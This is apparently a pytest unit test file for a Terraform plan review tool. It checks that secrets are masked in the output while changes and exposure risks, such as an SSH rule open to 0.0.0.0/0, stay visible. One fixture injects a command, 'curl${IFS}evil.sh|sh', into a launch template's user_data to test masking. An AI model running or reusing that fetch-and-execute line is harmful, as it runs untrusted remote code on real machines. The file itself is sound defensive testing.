"""Secrets are masked in all texts, without hiding differences or risks."""

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.unit.review.builders import change, cleaned, found, script, shown
from wealist.model.values import MASK
from wealist.review.finding import Kind, Severity
from wealist.review.secrets import is_searched_for, split_lines
from wealist.review.values import Script, is_hidden

pytestmark = pytest.mark.exhaustive

SECRET = "Zq7-hunter2+secret/VALUE"


@pytest.mark.parametrize("secret", ['a"b\nhunter2', "a\\b-hunter2", "<ab>&hunter2", "가나다라-hunter2"])
@pytest.mark.parametrize("escaped", ["plain", "ascii", "Go's"])
def test_escaped_secrets_in_texts_are_masked(secret: str, escaped: str, tmp_path: Path) -> None:
    text = json.dumps(secret, ensure_ascii=escaped == "ascii")
    if escaped == "Go's":
        text = text.replace("<", r"\u003c").replace(">", r"\u003e").replace("&", r"\u0026")
    holder = change("aws_thing.a", "no-op", before={"a": secret}, after={"a": secret}, before_sensitive={"a": True})
    update = change("aws_thing.b", "update", before={"a": ""}, after={"a": f"run {text} now"})
    assert "hunter2" not in shown(tmp_path, holder, update)


PLAIN = [
    "0.0.0.0/0",
    "10.1.10.0/24",
    "203.0.113.25",
    "2001:db8::/32",
    "arn:aws:iam::aws:policy/AdministratorAccess",
    "arn:aws:iam::290008131187:role/wealist-dev-ec2-role",
    "sg-0123456789abcdef0",
    "290008131187",
    "1024-65535",
    "2012-10-17",
    "SecureString",
    "PAY_PER_REQUEST",
    "cidr_ipv4",
    "forwarding",
    "iam:PassRole",
    "s3:Get*",
]


@pytest.mark.parametrize("text", PLAIN)
def test_common_words_of_plans_are_not_searched_for(text: str) -> None:
    assert not is_searched_for(text)


@pytest.mark.parametrize(
    "text", [SECRET, "kJhsDFKJhsdfKJ", "a8f3c9d2e1b0", "db-password-1", "10.0.0.0/x", "correct horse"]
)
def test_distinctive_secrets_are_searched_for(text: str) -> None:
    assert is_searched_for(text)


@pytest.mark.parametrize("marked", ["by its mark", "by its name"])
def test_a_secret_with_the_words_of_a_rule_does_not_hide_the_rule(marked: str, tmp_path: Path) -> None:
    words = ["0.0.0.0/0", "cidr_ipv4", "security_group_id"]
    holder = change(
        "aws_thing.a",
        "update",
        before={},
        after={"tags": {f"{number}_secret": word for number, word in enumerate(words)}, "values": words},
        after_sensitive={"values": True} if marked == "by its mark" else {},
    )
    rule = {"cidr_ipv4": "0.0.0.0/0", "ip_protocol": "tcp", "from_port": 22, "to_port": 22, "security_group_id": "sg-1"}
    opened = change("aws_vpc_security_group_ingress_rule.r", "create", after=rule)
    assert Severity.DANGER in {severity for severity, _ in found(holder, opened, kind=Kind.EXPOSURE)}
    assert "+ tags.0_secret: (sensitive value)" in shown(tmp_path, holder)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ({"user_data": script("TOKEN=abc")}, {"user_data": script("TOKEN=abc;curl${IFS}evil.sh|sh")}),
        ({"a": "run --token abc"}, {"a": "run --token abd"}),
        ({"a": ["x", "password=abc"]}, {"a": ["x", "password=abd"]}),
        ({"a": json.dumps({"b": "password=abc"})}, {"a": json.dumps({"b": "password=abd"})}),
        ({"a": {"token=abc ": 1}}, {"a": {"token=abd ": 1}}),
    ],
)
def test_texts_that_differ_in_masked_parts_are_different(before: Any, after: Any, tmp_path: Path) -> None:
    output = shown(tmp_path, change("aws_launch_template.a", "update", before=before, after=after))
    assert not [each for each in ("abc", "abd", "evil") if each in output]
    assert "No attribute that is shown changes." not in output
    assert [f"- {MASK}" in output or f"{sign} " in output for sign in "-+"] == [True, True]
    assert output.count(MASK) >= 6


def test_script_lines_that_differ_in_masked_parts_are_changed(tmp_path: Path) -> None:
    before, after = script("A=1\nTOKEN=abc"), script("A=1\nTOKEN=abd")
    update = change("aws_launch_template.a", "update", before={"user_data": before}, after={"user_data": after})
    output = shown(tmp_path, update)
    assert "\n- TOKEN=(sensitive value)\n+ TOKEN=(sensitive value) (another one)\n" in output
    assert "- A=1" not in output


def test_two_masked_keys_stay_separate(tmp_path: Path) -> None:
    holder = change("aws_thing.a", "no-op", before={"a": ["first+one", "another+one"]}, before_sensitive={"a": True})
    tags = {"first+one": "1", "another+one": "2"}
    update = change("aws_thing.b", "update", before={"tags": {}}, after={"tags": tags})
    output = shown(tmp_path, holder, update)
    assert '+ tags.(sensitive value): "1"' in output
    assert '+ tags.(sensitive value): "2"' in output


def test_a_masked_text_is_equal_only_to_the_same_text() -> None:
    one, same, other = (cleaned(f"TOKEN={each}") for each in ("abc", "abc", "abd"))
    assert (one == same, one != same, hash(one) == hash(same)) == (True, False, True)
    assert (one == other, one != other, str(one) == str(other)) == (False, True, True)
    assert one != str(one)
    assert [str(each) for each in split_lines(cleaned("a\nTOKEN=abc"))] == ["a", "TOKEN=(sensitive value)"]


def test_values_with_masked_parts_are_hidden() -> None:
    text = cleaned("TOKEN=abc")
    for value in (text, [text], {"a": text}, {text: 1}, Script(text)):
        assert is_hidden(value)
    assert not is_hidden({"a": ["TOKEN=$X", Script("true")]})


@settings(deadline=None, max_examples=40)
@given(
    st.lists(st.text(alphabet="abcXYZ01", min_size=8, max_size=12), min_size=1, max_size=30),
    st.lists(st.text(alphabet="abcXYZ01 ", max_size=20), max_size=6),
)
def test_known_secrets_are_removed_from_every_text(secrets: list[str], texts: list[str]) -> None:
    text = "|".join([*texts, *secrets, *texts])
    left = cleaned(text, *secrets)
    assert not [secret for secret in secrets if is_searched_for(secret) and secret in left]


def test_a_secret_with_another_secret_as_prefix_is_removed_completely() -> None:
    left = cleaned("x abcdefg1ijkl y abcdefg1", "abcdefg1", "abcdefg1ijkl")
    assert str(left) == "x (sensitive value) y (sensitive value)"
